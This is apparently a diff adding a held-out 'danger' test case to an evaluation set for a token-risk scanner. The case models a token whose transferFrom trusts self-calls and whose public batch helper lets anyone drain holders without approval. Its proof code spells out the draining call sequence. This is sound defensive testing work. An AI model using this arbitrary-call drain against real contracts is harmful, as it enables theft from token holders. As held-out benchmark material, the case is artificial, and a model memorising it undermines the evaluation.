@@ -3,7 +3,8 @@
  * no held-out README and no result of any set; only public material (cited per case, read 2026-11-27), the earlier
  * sets' plumbing and case files (whose case names and shapes it avoided repeating). The expectations below were
  * committed BEFORE the engine ever ran on these tokens. Never edit an expectation to match the engine; a broken launch
- * script may be fixed, with the reason in the commit.
+ * script may be fixed, with the reason in the commit. One danger case (marked in its source) was added by a second
+ * analyst, equally blind, after auditing the others.
  *
  * `danger` = the engine should say high or critical; `safe` = low or medium (tests/eval/harness.ts).
  * Analyst rule (README.md of this folder, in full there): DANGER when, at scan time, a single party (an EOA, a 1-of-N
@@ -629,6 +630,39 @@ export const HELDOUT_EVM12_CASES: readonly HeldoutEvm12Case[] = [
       );
       must((await ctx.supply(l.token)) > 100n * SUPPLY, "the sale did not mint without bound");
     },
+  },
+
+  {
+    name: "token-trusts-itself-via-public-batch",
+    expected: "danger",
+    ageDays: 23,
+    source: `arbitrary-call drains: Seneca Chamber.performOperations, Feb 2024 (ethereum-magicians.org/t/idea-for-erc-arbitrary-callable-contract-interface/19615) and SwapNet / Aperture, Jan 2026 (dev.to/ohmygod 'The $17M Arbitrary External Call Exploit'): a contract executes caller-chosen calldata with its own privileges and transferFrom moves victims' tokens; OpenZeppelin 'Arbitrary Address Spoofing Attack: ERC2771Context Multicall Public Disclosure' (blog.openzeppelin.com, Dec 2023: batched self-calls confuse who the caller is); ${CERTIK} (missing access control); ${DEFI} (approval abuse); read 2026-11-27; H12Danger.sol H12SelfTrustBatchToken (written blind by the second analyst)`,
+    rationale:
+      "Owner renounced, a fixed 2 % sell fee, no mint. But transferFrom skips the allowance when the caller is the token contract itself (meant for its own fee processing), and a public batch(bytes[]) helper makes the token call itself with any calldata: ANYONE can batch transferFrom(holder, self, bag) and take every holder's tokens without their approval. LP burnt.",
+    launch: async (ctx) => {
+      const token = await ctx.deploy("H12SelfTrustBatchToken", [SUPPLY, ctx.wallet(88)]);
+      const l = await openMarket(ctx, token, { lp: "burn", setPair: true });
+      return renounced(ctx, "H12SelfTrustBatchToken", l);
+    },
+    late: lastDay(),
+    proof: async (ctx, l) =>
+      holderDrained(
+        ctx,
+        l,
+        async (bal) => {
+          const thief = ctx.wallet(85);
+          const holder = ctx.wallet(HOLDER);
+          await refused(
+            ctx,
+            ctx.send(l.token, "H12SelfTrustBatchToken", "transferFrom", [holder, thief, bal], thief),
+            "a direct transferFrom without allowance",
+          );
+          const call = ctx.encode("H12SelfTrustBatchToken", "transferFrom", [holder, thief, bal]);
+          await ctx.send(l.token, "H12SelfTrustBatchToken", "batch", [[call]], thief);
+          must((await ctx.balance(l.token, thief)) === bal, "the thief did not receive the bag");
+        },
+        "a batched self-call",
+      ),
   },
 
   // ───────────────────────────── SAFE (twins) ─────────────────────────────
